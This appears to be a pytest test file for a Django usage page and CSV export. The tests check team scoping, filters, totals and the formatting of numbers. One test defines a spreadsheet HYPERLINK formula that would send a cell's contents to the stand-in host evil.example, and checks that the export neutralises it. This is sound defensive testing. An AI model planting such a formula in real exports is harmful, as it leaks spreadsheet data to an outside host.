"""/usage/ and /usage.csv: a team's usage over time, totals and a per-job table, with the job list's filters;
only the caller's teams; bad filters 400; the CSV streamed with the same filters."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.utils import timezone

from accounting.models import Record
from core.formats import money
from jobs.models import Outcome
from ops import usage, views
from pool.nodes import Capacity, register
from pool.utilisation import held_core_seconds
from tests.ops.conftest import released_job


@pytest.fixture
def node(db):
    return register("n1", Capacity(cpu_ids=[0, 1, 2, 3], memory_mb=4096, gpu_ids=[]), now=timezone.now())


@pytest.fixture
def me(client, member):
    client.force_login(member)
    return client


@pytest.fixture
def history(member, teammate, team, outsider, other_team, node):
    return {
        "good": released_job(member, team, name="red good", cpus=2, held_for=timedelta(hours=2)),
        "bad": released_job(teammate, team, name="red bad", outcome=Outcome.FAILED, exit_code=1),
        "blue": released_job(outsider, other_team, name="blue secret"),
    }


def csv_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_page_shows_my_teams_jobs_with_their_cost_and_the_totals(me, team, history):
    response = me.get("/usage/")

    page = response.content.decode()
    assert response.status_code == 200
    assert "red good" in page and "red bad" in page and "blue secret" not in page
    records = Record.objects.filter(team=team)
    total = sum(r.cost for r in records)
    assert f'<dd id="total-cost" title="exact: {total}">{money(total, "EUR")}</dd>' in page
    assert '<dd id="total-jobs">2</dd>' in page
    assert "Core-hours held per day" in page and "<rect" in page  # the chart, drawn on the server
    assert "<script>" not in page and "style=" not in page  # the CSP allows neither inline


def test_the_filters_are_the_job_lists(me, history):
    page = me.get("/usage/?outcome=failed&user=bob").content.decode()

    assert "red bad" in page and "red good" not in page
    assert '<dd id="total-jobs">1</dd>' in page


@pytest.mark.parametrize("query", ["outcome=exploded", "since=yesterday", "team=not a slug"])
def test_a_bad_filter_is_400_naming_it(me, history, query):
    response = me.get(f"/usage/?{query}")

    assert response.status_code == 400
    assert b"A filter has a bad value" in response.content
    assert me.get(f"/usage.csv?{query}").status_code == 400


def test_the_csv_has_a_row_per_job_with_its_summed_records(me, history):
    response = me.get("/usage.csv")

    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="usage-')
    rows = csv_of(response)
    assert rows[0][:3] == ["job", "name", "team"]
    by_name = {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert set(by_name) == {"red good", "red bad"}
    good = history["good"]
    assert by_name["red good"]["cost"] == str(Record.objects.get(job=good).cost)
    assert by_name["red bad"]["outcome"] == "failed" and by_name["red bad"]["submitted_by"] == "bob"


def test_the_csv_takes_the_same_filters(me, history):
    rows = csv_of(me.get("/usage.csv?outcome=succeeded"))

    assert [row[1] for row in rows[1:]] == ["red good"]


def test_another_teams_member_sees_none_of_it(client, outsider, history):
    client.force_login(outsider)

    page = client.get("/usage/").content.decode()
    rows = csv_of(client.get("/usage.csv"))

    assert "blue secret" in page and "red good" not in page
    assert [row[1] for row in rows[1:]] == ["blue secret"]


def test_nobody_signed_in_is_sent_to_log_in(client, db):
    assert client.get("/usage/").status_code == 302
    assert client.get("/usage.csv").status_code == 302


def test_usage_refuses_a_post(me):
    assert me.post("/usage/").status_code == 405


@pytest.mark.parametrize("jobs", [1, 12])
def test_the_page_query_count_does_not_grow_with_the_jobs(
    me, member, team, node, jobs, monkeypatch, django_assert_max_num_queries
):
    monkeypatch.setattr(views, "USAGE_PAGE_SIZE", 5)
    for n in range(jobs):
        released_job(member, team, name=f"job {n}")

    with django_assert_max_num_queries(15):  # 3 of them the store's, whatever the number of teams
        response = me.get("/usage/?q=job")

    assert response.status_code == 200


def test_the_totals_add_the_kept_days_to_todays_records(me, member, team, node):
    released_job(member, team, name="three days ago", held_for=timedelta(hours=2), ago=timedelta(days=3))
    first = me.get("/usage/").content.decode()  # keeps the days before yesterday
    released_job(member, team, name="now", held_for=timedelta(hours=1))

    page = me.get("/usage/").content.decode()

    total = sum(r.cost for r in Record.objects.filter(team=team))
    assert f'<dd id="total-cost" title="exact: {total}">{money(total, "EUR")}</dd>' in page
    assert '<dd id="total-jobs">2</dd>' in page and '<dd id="total-jobs">1</dd>' in first
    assert '<dd id="total-held">3 h 00 m</dd>' in page  # held: 2 h then 1 h


def test_every_number_on_the_page_is_written_for_people(me, member, team, node):
    released_job(member, team, name="big", cpus=2, held_for=timedelta(hours=2))
    released_job(member, team, name="oom", outcome=Outcome.OUT_OF_MEMORY, exit_code=137)

    page = me.get("/usage/").content.decode()

    assert '<dd id="total-held">3 h 00 m</dd>' in page
    assert '<dd id="total-core-hours">5.00 core-hours</dd>' in page  # 2 cores × 2 h + 1 core × 1 h
    assert '<dd id="total-cpu">2 m 00 s</dd>' in page  # 60 cpu-seconds each
    assert ">out of memory</span>" in page and "out_of_memory</span>" not in page
    assert "2 cores ·" in page and "1 core ·" in page and "1 cores" not in page
    assert '<td data-label="Held" class="nowrap">2 h 00 m</td>' in page
    assert '<td data-label="CPU time" class="nowrap">1 m 00 s</td>' in page
    costs = re.findall(r'<td data-label="Cost" class="nowrap" title="exact: [0-9.]+">([^<]+)</td>', page)
    assert len(costs) == 2 and all(re.fullmatch(r"(\d+\.\d\d|less than 0\.01) EUR", c) for c in costs), costs


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_the_csv_neutralises_a_job_name_that_a_spreadsheet_would_run(me, member, team, node):
    released_job(member, team, name=EVIL)

    rows = csv_of(me.get("/usage.csv"))

    assert [row[1] for row in rows[1:]] == ["'" + EVIL]


def test_a_hold_over_midnight_counts_on_both_days_as_the_operators_chart_does(member, team, node):
    now = timezone.now()
    midnight = now.replace(hour=0, minute=0, second=0, microsecond=0) - timedelta(days=3)
    released_job(member, team, name="overnight", cpus=2, held_for=timedelta(hours=4),
                 ago=now - (midnight + timedelta(hours=1)))  # fmt: skip
    records = Record.objects.filter(team=team)

    chart = usage.over_time(records, start=midnight - timedelta(days=1), end=midnight + timedelta(days=1), now=now)

    assert [(bar.label, round(bar.amount, 3)) for bar in chart.bars] == [
        ((midnight - timedelta(days=1)).strftime("%m-%d"), 6.0),  # 21:00 to midnight on 2 cores
        (midnight.strftime("%m-%d"), 2.0),
    ]
    operators = held_core_seconds(since=midnight - timedelta(days=1), count=2, step="day", now=now)
    assert [round(operators[("n1", day)] / 3600, 3) for day in (0, 1)] == [6.0, 2.0]
